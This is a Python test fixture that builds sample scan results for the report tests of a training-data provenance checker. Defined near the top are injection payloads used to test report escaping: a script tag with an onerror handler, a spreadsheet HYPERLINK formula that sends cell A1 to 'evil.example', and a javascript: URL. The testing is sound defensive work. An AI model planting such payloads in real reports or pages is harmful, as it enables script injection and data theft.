"""Scan results built by hand for the report tests: every kind of finding, and hostile text.

The values are what the engine produces (same types, offsets into the same texts); building
them directly lets the tests cover waivers, markers and declarations, which other stages
produce, and data written to attack a report (markup, formulas, control characters).
"""

from __future__ import annotations

from dataclasses import replace
from typing import Any

from helpers import REFERENCE_TEXTS
from provcheck.model import (
    Action,
    AlignedSpan,
    CharSpan,
    Clause,
    ContentHash,
    Declaration,
    ErrorKind,
    Evidence,
    FileSummary,
    Finding,
    FindingId,
    Location,
    MarkerHit,
    Match,
    MatchId,
    MatchKind,
    RecordError,
    RecordRef,
    Reference,
    ReferenceId,
    RoleKind,
    RuleRef,
    RunRecord,
    ScanResult,
    ScanStats,
    SourceInfo,
    SourceName,
    Turn,
    Waiver,
    WaiverState,
)

SCRIPT = '<script>window.__pwned = 1</script><img src=x onerror="window.__pwned = 2">'
"""Markup a hostile record carries: a report must show it as text."""
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
"""A spreadsheet formula a hostile record carries: a CSV report must not let it run."""

OPENAI = SourceInfo(
    name=SourceName("sharegpt-dump"),
    provider="openai",
    generator="gpt-3.5-turbo",
    license="LicenseRef-ShareGPT",
    terms="openai-terms-of-use",
    meta={"origin": "generated", "date": "2023-03-20"},
)
DERIVED = SourceInfo(
    name=SourceName("mixed-sft"),
    license="CC-BY-NC-4.0",
    meta={"derived_from": "sharegpt-dump"},
)
CLAUSE = Clause(
    quote="Use Output to develop models that compete with OpenAI.",
    document="OpenAI Terms of Use",
    url="https://openai.com/policies/row-terms-of-use/",
    effective="2024-01-31",
    section="What you cannot do",
    confidence="V-S",
)
COMPETE = RuleRef(
    id="openai-no-competing-models",
    title="OpenAI output used to develop a competing model",
    rationale="OpenAI's terms of use forbid using output to develop competing models.",
    remediation="Remove the record, or record a waiver with counsel's approval.",
    clause=CLAUSE,
)
NONCOMMERCIAL = RuleRef(
    id="noncommercial-license-in-commercial-model",
    title="Non-commercial data in a commercial model",
    clause=Clause(quote="not for <b>commercial</b> use", document="Licence", url="javascript:alert(1)"),
)
MARKER_RULE = RuleRef(id="ai-disclaimer-marker", title="Text says it was written by an AI model")
DECLARED_RULE = RuleRef(id="declared-noncommercial", title="Dataset card declares a non-commercial licence")

RUN = RunRecord.from_dict(
    {
        "tool": {"name": "provcheck", "version": "0.0.0-test"},
        "versions": {"provcheck": "0.0.0-test", "python": "3.x"},
        "started_at": "2026-01-02T03:04:05+00:00",
        "finished_at": "2026-01-02T03:04:06+00:00",
        "paths": ["data/"],
        "use": {
            "purpose": ["train-competing-model"],
            "commercial": True,
            "distributed": None,
            "research_only": None,
        },
        "index": {
            "path": "refs/",
            "digest": "0123456789abcdef0123456789abcdef",
            "signature": "wmh1-tok1-n5-w8-s1",
            "fingerprint": {"shingle_size": 5, "window": 8, "seed": 1, "tokenizer": 1},
            "sources": ["mixed-sft", "sharegpt-dump"],
        },
        "policy": {
            "path": "policy.yaml",
            "name": "test policy",
            "digest": "f" * 64,
            "files": ["policy.yaml"],
        },
        "match": {
            "min_tokens": 25,
            "min_similarity": 0.7,
            "min_coverage": 0.5,
            "excerpt_tokens": 40,
            "excerpt_similarity": 0.9,
            "block_floor_tokens": 40,
            "gap_penalty": 1.0,
            "min_hits": 2,
            "min_hit_share": 0.1,
            "strong_hits": 5,
            "max_candidates": 16,
            "max_postings": 256,
        },
        "workers": 1,
        "roles": None,
        "schema": "auto",
        "command": [
            "provcheck",
            "scan",
            "data/",
            "-i",
            "refs/",
            "-p",
            "policy.yaml",
            "-f",
            "html",
            "-o",
            "r.html",
        ],
        "fail_on": ["block"],
        "use_declared_by": "policy",
    }
)


def turn(text: str, role: str = "gpt", position: int = 1) -> Turn:
    return Turn(
        role=role,
        kind=RoleKind.ASSISTANT,
        position=position,
        field=f"conversations[{position}].value",
        text=text,
    )


def copy_match(
    n: int,
    parts: tuple[str, str, str],
    reference: str,
    path: str = "data/train.jsonl",
    line: int | None = None,
    source: SourceInfo = OPENAI,
    short: bool = False,
) -> Match:
    """A match of the candidate ``prefix + body + suffix`` against ``reference``: ``body`` (the
    reference, maybe edited) is aligned to the whole reference."""
    prefix, body, suffix = parts
    candidate = prefix + body + suffix
    span = AlignedSpan(
        CharSpan(len(prefix), len(prefix) + len(body)), CharSpan(0, len(reference)), len(body.split()), 0.97
    )
    return Match(
        id=MatchId(f"m{n:05d}"),
        record=RecordRef(
            location=Location(path=path, index=n, line=line if line is not None else n + 1),
            id=f"rec-{n}",
            content_hash=ContentHash(f"{n:032x}"),
            turn=turn(candidate),
        ),
        reference=Reference(
            id=ReferenceId(f"share-{n % 3:03d}"),
            source=source,
            turn=turn(reference),
            path="/refs/chatgpt_share.jsonl",
            index=n % 3,
        ),
        evidence=Evidence(
            kind=MatchKind.NEAR_DUPLICATE,
            similarity=0.97,
            containment=0.93,
            coverage=0.9,
            matched_tokens=20 if short else len(body.split()),
            char_similarity=0.98,
            jaccard=0.8,
            spans=(span,),
            short=short,
        ),
    )


def sample() -> ScanResult:
    """One of everything: block, waived, expired, placeholder, short evidence (lowered),
    marker, declaration, a hostile record, a record without line, an unmatched match, errors."""
    ref = REFERENCE_TEXTS[1]
    edited = ("Intro. ", ref.replace("reliable", "dependable"), " Outro.")
    hostile_ref = REFERENCE_TEXTS[0]
    hostile = (f"{SCRIPT} {FORMULA} | @here #12 **bold** \x01 ", hostile_ref, f" {SCRIPT}")
    m_block = copy_match(0, edited, ref)
    m_hostile = copy_match(1, hostile, hostile_ref, source=DERIVED)
    m_hostile = replace(m_hostile, record=replace(m_hostile.record, id=FORMULA))
    m_noline = copy_match(2, edited, ref, path="data/part.parquet", line=0)
    m_noline = replace(
        m_noline, record=replace(m_noline.record, location=Location("data/part.parquet", 2, None))
    )
    m_short = copy_match(3, edited, ref, short=True)
    m_unmatched = copy_match(4, edited, ref, path="data/other.jsonl")
    waiver = Waiver(
        reason="Licensed from OpenAI under contract C-17",
        approver="counsel@acme-legal.com",
        date="2026-01-01",
        expires="2027-01-01",
        ticket="LEGAL-42",
    )
    findings = (
        Finding(
            id=FindingId("f-block"),
            rule=COMPETE,
            action=Action.BLOCK,
            message="copies output of gpt-3.5-turbo (sharegpt-dump)",
            match=m_block,
            source=OPENAI,
            chain=(OPENAI,),
        ),
        Finding(
            id=FindingId("f-hostile"),
            rule=NONCOMMERCIAL,
            action=Action.BLOCK,
            message=f"copies mixed-sft {SCRIPT} {FORMULA} @here #12 | \x01",
            match=m_hostile,
            source=DERIVED,
            chain=(DERIVED, OPENAI),
        ),
        Finding(
            id=FindingId("f-noline"),
            rule=COMPETE,
            action=Action.BLOCK,
            message="copies output of gpt-3.5-turbo (sharegpt-dump)",
            match=m_noline,
            source=OPENAI,
            chain=(OPENAI,),
            waiver=waiver,
            waiver_state=WaiverState.WAIVED,
        ),
        Finding(
            id=FindingId("f-short"),
            rule=COMPETE,
            action=Action.REVIEW,
            downgraded_from=Action.BLOCK,
            message="copies output of gpt-3.5-turbo (sharegpt-dump)",
            match=m_short,
            source=OPENAI,
            chain=(OPENAI,),
            waiver=replace(waiver, expires="2025-01-01", placeholder=True, reason="TODO: explain"),
            waiver_state=WaiverState.EXPIRED,
        ),
        Finding(
            id=FindingId("f-marker"),
            rule=MARKER_RULE,
            action=Action.WARN,
            message="says “As an AI language model”",
            marker=MarkerHit(
                marker="as-an-ai-language-model",
                label="As an AI language model",
                record=RecordRef(
                    location=Location("data/train.jsonl", 7, 8),
                    id="rec-7",
                    content_hash=ContentHash("7" * 32),
                    turn=turn("Sure. As an AI language model, I cannot browse the web."),
                ),
                span=CharSpan(6, 29),
                text="As an AI language model",
                provider="openai",
            ),
        ),
        Finding(
            id=FindingId("f-declared"),
            rule=DECLARED_RULE,
            action=Action.INFO,
            message="the dataset card declares license: cc-by-nc-4.0",
            declaration=Declaration(
                path="data/README.md", line=3, key="license", value="cc-by-nc-4.0", dataset="data/"
            ),
        ),
    )
    files = (
        FileSummary("data/train.jsonl", "sharegpt", 9, 1, "a" * 64),
        FileSummary("data/part.parquet", "text", 3, 0, "b" * 64),
        FileSummary("data/other.jsonl", "sharegpt", 5, 0, "c" * 64),
    )
    errors = (
        RecordError("data/train.jsonl", ErrorKind.PARSE, f"invalid JSON {SCRIPT}", line=5, index=4),
        RecordError("data/broken.bin", ErrorKind.FILE, "not a supported container"),
    )
    matches = (m_block, m_hostile, m_noline, m_short, m_unmatched)
    return ScanResult(
        matches=matches,
        findings=findings,
        errors=errors,
        files=files,
        stats=ScanStats(
            files=3, records=17, turns=34, matches=len(matches), findings=len(findings), errors=2, seconds=1.5
        ),
        run=RUN,
    )


def many(n: int) -> ScanResult:
    """``n`` findings over several rules and sources, each with real texts and a span."""
    sources = [OPENAI, DERIVED, replace(OPENAI, name=SourceName("gpt4-outputs"), generator="gpt-4")]
    rules = [
        COMPETE,
        NONCOMMERCIAL,
        replace(COMPETE, id="review-all", title="Every match is reviewed", clause=None),
    ]
    actions = [Action.BLOCK, Action.REVIEW, Action.WARN, Action.INFO]
    findings = []
    matches = []
    for i in range(n):
        ref = REFERENCE_TEXTS[i % 3]
        cand = (f"Record {i}. ", ref.replace("the", "a", 1), f" Closing remark {i}.")
        m = copy_match(i, cand, ref, path=f"data/shard-{i % 7}.jsonl", source=sources[i % 3])
        matches.append(m)
        findings.append(
            Finding(
                id=FindingId(f"f{i:06d}"),
                rule=rules[i % 3],
                action=actions[i % 4],
                message=f"copies {sources[i % 3].name} (finding {i})",
                match=m,
                source=sources[i % 3],
                chain=(sources[i % 3],),
            )
        )
    return ScanResult(
        matches=tuple(matches),
        findings=tuple(findings),
        errors=(),
        files=tuple(
            FileSummary(f"data/shard-{k}.jsonl", "sharegpt", n // 7, 0, f"{k:064x}") for k in range(7)
        ),
        stats=ScanStats(files=7, records=n, turns=2 * n, matches=n, findings=n, errors=0, seconds=10.0),
        run=RUN,
    )


def with_run(result: ScanResult, **facts: Any) -> ScanResult:
    """``result`` with its run record's facts replaced, given in their serialized form (read
    back by ``RunRecord.from_dict``, so a wrong key or type fails the test that gives it)."""
    return replace(result, run=RunRecord.from_dict({**result.run.to_dict(), **facts}))
